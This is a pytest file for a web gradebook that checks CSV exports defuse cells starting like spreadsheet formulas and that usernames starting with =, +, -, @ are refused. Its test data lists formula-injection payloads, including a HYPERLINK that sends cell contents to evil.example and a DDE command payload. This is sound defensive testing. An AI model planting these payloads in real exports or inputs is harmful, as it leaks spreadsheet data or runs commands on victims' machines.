"""No CSV the app writes runs as a formula in a spreadsheet, and new user names cannot start like one."""

from __future__ import annotations

import csv
import io

import pytest

from web.auth import create_user, hasher
from web.models import User
from web.spreadsheet import csv_text

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"grades")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
            "\t=1+1", "\r=1+1"]
REFUSAL = "a username may not start with =, +, -, @ (a spreadsheet opening the gradebook would run it as a formula)"


def test_the_gradebook_neutralises_every_cell_that_starts_like_a_formula(client, session, make_user, sign_in):
    # Accounts from before names were checked: stored as they were given.
    session.add_all([User(username=name, role="student", password_hash=hasher.hash("x")) for name in FORMULAS])
    session.commit()
    make_user("ada")
    sign_in(make_user("prof", role="instructor"))
    answer = client.get("/instructor/gradebook.csv")
    assert answer.status_code == 200
    names = [row[0] for row in csv.reader(io.StringIO(answer.text))][1:]
    assert sorted(names) == sorted(["ada", *("'" + name for name in FORMULAS)])
    assert all(row[1:] and not row[1].startswith("'") for row in csv.reader(io.StringIO(answer.text)))


def test_csv_text_leaves_numbers_and_plain_text_alone():
    assert csv_text([["ada", 1, 0.5, "0.2500", "a=b", "-"]]) == "ada,1,0.5,0.2500,a=b,'-\r\n"


@pytest.mark.parametrize("name", FORMULAS[:4])
def test_a_new_user_cannot_be_named_like_a_formula(session, name):
    with pytest.raises(ValueError) as refused:
        create_user(session, name, "student")
    assert str(refused.value) == f"{REFUSAL}: {name!r}"


def test_a_roster_line_named_like_a_formula_is_refused_with_its_line(client, session, make_user, sign_in):
    sign_in(make_user("prof", role="instructor"))
    roster = b'username,role\nada,student\n=HYPERLINK("http://evil.example"),student\n'
    page = client.post("/instructor/roster", data={"file": (io.BytesIO(roster), "roster.csv")},
                       content_type="multipart/form-data").text
    assert "Could not import the roster: line 3: a username may not start with =, +, -, @" in page
    assert session.query(User).filter(User.username.like("%HYPERLINK%")).count() == 0
